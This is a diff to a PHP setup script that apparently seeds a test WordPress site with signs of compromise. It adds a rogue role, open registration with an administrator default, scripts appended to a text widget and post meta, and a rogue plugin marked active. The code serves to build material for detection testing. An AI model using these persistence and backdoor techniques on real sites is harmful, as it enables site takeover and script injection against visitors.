@@ -153,6 +153,11 @@ if ($step === 'install') {
     $admin_id = user_id($ids, $spec['users'][0]['key']);
     wp_set_current_user($admin_id);  // an administrator: unfiltered_html, no kses
 
+    if ($phase === 3 && $spec['rogue_role'][0] !== '') {
+        // The intruder's own role, before the account that has it.
+        add_role($spec['rogue_role'][0], $spec['rogue_role'][1],
+            array_fill_keys($spec['rogue_role'][2], true));
+    }
     foreach ($spec['users'] as $u) {
         if ($u['phase'] !== $phase || isset($ids['users'][$u['key']])) {
             continue;
@@ -252,6 +257,28 @@ if ($step === 'install') {
             "UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, %s) WHERE ID = %d",
             $spec['injected_script'], $pid));
         clean_post_cache($pid);
+    }
+    if ($phase === 3 && $spec['open_registration_role'] !== '') {
+        // Anyone may sign up, as an administrator.
+        update_option('users_can_register', 1);
+        update_option('default_role', $spec['open_registration_role']);
+    }
+    if ($phase === 3 && $spec['widget_script'] !== '') {
+        // A script appended to the text widget (a serialized option: WordPress's own
+        // serializer writes the new length).
+        $w = get_option('widget_text');
+        $w[2]['text'] .= $spec['widget_script'];
+        update_option('widget_text', $w);
+    }
+    if ($phase === 3 && $spec['meta_script'][0] !== '') {
+        update_post_meta((int) $ids['posts'][$spec['meta_script'][0]],
+            $spec['meta_script'][1], wp_slash($spec['meta_script'][2]));
+    }
+    if ($phase === 3 && $spec['rogue_plugin'] !== '') {
+        // Active, though WordPress has not seen its file yet (compromise.py plants it).
+        $active = get_option('active_plugins', array());
+        $active[] = $spec['rogue_plugin'];
+        update_option('active_plugins', $active);
     }
     if ($phase === 3 && $spec['rogue_cron'][0] !== '') {
         // ...and a WP-cron event calling home every hour.
